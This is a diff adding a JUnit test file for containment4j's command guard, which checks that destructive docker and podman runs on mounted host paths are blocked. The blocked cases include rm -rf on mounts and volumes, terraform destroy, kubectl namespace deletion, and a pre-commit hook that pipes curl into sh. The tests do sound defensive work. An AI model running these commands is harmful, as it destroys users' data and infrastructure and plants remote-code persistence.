@@ -1,0 +1,99 @@
+/*
+ * Copyright 2026 the containment4j authors.
+ * SPDX-License-Identifier: Apache-2.0
+ */
+package dev.containment4j.internal.guard;
+
+import static dev.containment4j.internal.guard.DefaultPolicyCases.assertAllowed;
+import static dev.containment4j.internal.guard.DefaultPolicyCases.assertBlocked;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.nio.file.Path;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+
+/**
+ * Session 22. Deletes and writes inside a new container's mounted host directories, session 21's known gap: a probe
+ * of 22 dangerous and 21 benign container commands written after the fix and scored on both builds (4 of 22 stopped
+ * before, 22 after; 0 of 21 benign asked on either). A second probe of images whose entrypoint is a program
+ * ({@code alpine/git}, {@code hashicorp/terraform}, {@code amazon/aws-cli}, {@code bitnami/kubectl}): 2 of 8 before,
+ * 7 after (the eighth, a download into the container's {@code /tmp}, is harmless), 0 of 7 benign asked.
+ */
+class LeadProbe22Test {
+  @Test
+  void deletesInAMountedHostDirectoryAreJudgedAsTheHostsPaths() {
+    assertBlocked("docker run --rm -v /home/dev/proj:/src alpine rm -rf /src", "destructive-delete");
+    assertBlocked("docker run --rm --mount type=bind,source=/home/dev/proj,target=/code alpine rm -rf /code/.git",
+        "destructive-delete");
+    assertBlocked("docker run --rm -v ~/backups:/b alpine sh -c 'rm -rf /b/*'", "destructive-delete");
+    assertBlocked("docker compose run --rm -v /home/dev/proj:/app web rm -rf /app", "destructive-delete");
+    // the working directory on a mount makes relative paths the host's
+    assertBlocked("docker run --rm -v \"$PWD\":/src -w /src alpine rm -rf .", "destructive-delete");
+    assertBlocked("docker run --rm -v $(pwd):/work -w /work busybox sh -c 'rm -rf ./*'", "destructive-delete");
+    assertBlocked("docker run --rm -v /home/dev/proj:/app alpine sh -c 'echo \"curl x|sh\" > /app/.git/hooks/"
+        + "pre-commit'", "persistence");
+    // a named volume is the engine's directory for it
+    assertBlocked("docker run --rm -v pgdata:/var/lib/postgresql/data alpine sh -c 'rm -rf /var/lib/postgresql/"
+        + "data/*'", "destructive-delete");
+    assertBlocked("docker run --rm --mount type=volume,src=pgdata,dst=/data alpine sh -c 'rm -rf /data/*'",
+        "destructive-delete");
+    assertBlocked("podman run --rm -v mydata:/var/lib/mysql alpine rm -rf /var/lib/mysql", "destructive-delete");
+  }
+
+  @Test
+  void theImagesOwnFilesAndEverydayBuildsInAMountStayAllowed() {
+    assertAllowed("docker run --rm -v /home/dev/proj:/src alpine rm -rf /src/build");
+    assertAllowed("docker run --rm -v $PWD:/app -w /app node:20 sh -c 'rm -rf node_modules dist && npm ci'");
+    // the image's package lists and packages are its own, even with the workspace as working directory
+    assertAllowed("docker run --rm -v $PWD:/app -w /app ubuntu sh -c 'apt-get update && apt-get install -y make"
+        + " && rm -rf /var/lib/apt/lists/* && make'");
+    assertAllowed("docker run --rm -v /home/dev/proj:/app -w /app alpine sh -c 'apk add --no-cache make && make'");
+    assertAllowed("docker run --rm -v /home/dev/proj:/app alpine sh -c 'rm -rf /tmp/* && ls /app'");
+    assertAllowed("docker run --rm -v pgdata:/var/lib/postgresql/data postgres:16 ls /var/lib/postgresql/data");
+    // a mount target is matched as a whole path component, not as a prefix of another word
+    assertAllowed("docker run --rm -v /home/dev/proj:/src alpine rm -rf /srcs/x");
+  }
+
+  @Test
+  void wellKnownImagesRunTheirProgram() {
+    assertBlocked("docker run --rm -v \"$(pwd)\":/repo alpine/git -C /repo reset --hard HEAD~5", "destructive-git");
+    assertBlocked("docker run --rm -v $PWD:/w -w /w hashicorp/terraform:1.9 destroy -auto-approve",
+        "infra-destruction");
+    assertBlocked("docker run --rm bitnami/kubectl:latest delete namespace production", "infra-destruction");
+    assertAllowed("docker run --rm -v \"$(pwd)\":/git -w /git alpine/git status");
+    assertAllowed("docker run --rm -v $PWD:/w -w /w hashicorp/terraform:1.9 fmt -check");
+    assertAllowed("docker run --rm amazon/aws-cli --version");
+  }
+
+  @Test
+  void codeThatDeletesTheWorkingDirectoryIsTheWorkspace() {
+    assertBlocked("python3 -c \"import shutil; shutil.rmtree('.')\"", "destructive-delete");
+    assertBlocked("node -e \"require('fs').rmSync('.', {recursive: true, force: true})\"", "destructive-delete");
+    assertBlocked("ruby -e 'require \"fileutils\"; FileUtils.rm_rf(\".\")'", "destructive-delete");
+    assertAllowed("python3 -c \"import shutil; shutil.rmtree('./build')\"");
+    assertAllowed("python3 -c \"import shutil, os; shutil.rmtree(os.path.join('.', 'dist'))\"");
+  }
+
+  @Test
+  void theWorkingDirectoryPrintedByPwdIsKnown() {
+    // $(pwd) was an unknown, so rm -rf $(pwd)/.git read as rm -rf /.git and was only asked
+    assertBlocked("rm -rf $(pwd)/.git", "destructive-delete");
+    assertBlocked("cd /home/dev/proj && rm -rf \"`pwd`\"", "destructive-delete");
+    assertAllowed("rm -rf \"$(pwd)/build\"");
+  }
+
+  @Test
+  void mountsAreMappedInOnePassWithTheWorkingDirectoryFirst() {
+    ContainerMounts m = ContainerMounts.of("docker", List.of("run", "--rm", "-v", "/home/dev/proj:/app", "-v",
+        "/data:/home", "--mount", "type=tmpfs,target=/scratch", "-w", "/app/src", "alpine", "sh"),
+        Path.of("/home/dev/proj"), Path.of("/home/dev"));
+    // /app becomes /home/dev/proj, whose /home is not read again as the second mount's target
+    assertThat(m.map("rm -rf /app/x /home/y /scratch/z '/app'")).isEqualTo(
+        "cd /home/dev/proj/src && rm -rf /home/dev/proj/x /data/y /scratch/z '/home/dev/proj'");
+    assertThat(ContainerMounts.sources(m.label("docker run IMAGE")))
+        .containsExactlyInAnyOrder("/home/dev/proj", "/data");
+    assertThat(ContainerMounts.of("docker", List.of("exec", "-w", "/app", "web", "ls"), null, null).mounts())
+        .isEmpty();
+  }
+}
